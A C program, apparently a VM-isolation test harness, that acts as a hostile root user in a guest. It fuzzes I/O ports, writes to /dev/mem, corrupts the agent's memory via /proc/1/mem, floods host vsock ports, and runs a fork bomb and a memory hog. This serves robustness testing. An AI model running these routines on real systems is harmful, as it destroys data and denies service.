/* A hostile root user inside an ordinary guest: `user ATTACK SEED`. Whatever the kernel lets it do,
 * it does. Built statically: the guest has no shared libraries. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned number(void)
{
    return (unsigned)random();
}

/* Every port, each width; the three that switch the machine off come last. */
static void ports(void)
{
    if (iopl(3) != 0) {
        perror("iopl");
        return;
    }
    for (unsigned port = 0; port <= 0x10000 - 4; port++) {
        if (port >= 0x5FD && port <= 0x602)
            continue;
        inb(port), inw(port), inl(port);
        outb(number(), port), outw(number(), port);
        if (port % 7 == 0)
            outl(number(), port);
    }
    for (unsigned port = 0x602; port >= 0x600; port--)
        for (unsigned data = 0; data < 256; data++)
            outb(data, port);
}

static void device(const char *path)
{
    int file = open(path, O_RDWR | O_SYNC);
    if (file < 0) {
        perror(path);
        return;
    }
    static char bytes[4096];
    for (int i = 0; i < 600; i++) {
        off_t at = (off_t)number() << (number() % 12) & ~4095l;
        bytes[number() % sizeof bytes] = number();
        size_t size = number() % 2 ? 4096 : 1 + number() % 64;
        if (pread(file, bytes, size, at) < 0 && pwrite(file, bytes, size, at) < 0 && i == 0)
            perror(path);
        void *map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, at);
        if (map != MAP_FAILED)
            munmap(map, 4096);
    }
}

/* The memory of PID 1, the agent: from here on it says what we like. */
static void agent(void)
{
    int file = open("/proc/1/mem", O_RDWR);
    FILE *maps = fopen("/proc/1/maps", "r");
    char line[512];
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || strstr(line, "stack"))
            continue;
        for (unsigned long at = from; at < to; at += 4096) {
            unsigned junk[16];
            for (unsigned i = 0; i < 16; i++)
                junk[i] = number();
            pwrite(file, junk, sizeof junk, at + number() % 4000);
        }
    }
}

static int dial(unsigned port)
{
    int stream = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK, 0);
    struct timeval limit = {0, 20000};
    setsockopt(stream, AF_VSOCK, SO_VM_SOCKETS_CONNECT_TIMEOUT, &limit, sizeof limit);
    struct sockaddr_vm host = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = port};
    connect(stream, (struct sockaddr *)&host, sizeof host);
    return stream;
}

/* Connections to any port of the host, and floods of them to the one that listens. */
static void sockets(void)
{
    static char junk[65536];
    int streams[100];
    for (unsigned i = 0; i < sizeof junk; i++)
        junk[i] = number();
    for (int round = 0; round < 15; round++) {
        for (int i = 0; i < 100; i++)
            streams[i] = dial(i % 2 ? 0x7E07 : round < 8 ? (unsigned)round * 100 + i : number());
        usleep(100000);
        for (int i = 0; i < 100; i++) {
            send(streams[i], junk, sizeof junk, MSG_NOSIGNAL | MSG_DONTWAIT);
            close(streams[i]);
        }
    }
}

static void forks(void)
{
    for (;;)
        if (fork() < 0)
            usleep(1000);
}

static void hog(void)
{
    for (;;) {
        char *block = malloc(1 << 20);
        if (block)
            memset(block, 1, 1 << 20);
        else
            fork();
    }
}

static void flood(const char *path)
{
    int file = open(path, O_WRONLY);
    static char text[900];
    memset(text, 'x', sizeof text);
    text[sizeof text - 1] = '\n';
    for (int i = 0; i < 20000; i++)
        write(file, text, 1 + number() % (sizeof text - 1));
}

int main(int count, char **arguments)
{
    const char *attack = count > 1 ? arguments[1] : "";
    srandom(count > 2 ? atoi(arguments[2]) : 1);
    if (!strcmp(attack, "ports")) ports();
    else if (!strcmp(attack, "mem")) device("/dev/mem");
    else if (!strcmp(attack, "port")) device("/dev/port");
    else if (!strcmp(attack, "agent")) agent();
    else if (!strcmp(attack, "sockets")) sockets();
    else if (!strcmp(attack, "forks")) forks();
    else if (!strcmp(attack, "hog")) hog();
    else if (!strcmp(attack, "kmsg")) flood("/dev/kmsg");
    else if (!strcmp(attack, "ttyS0")) flood("/dev/ttyS0");
    else return 2;
    return 0;
}
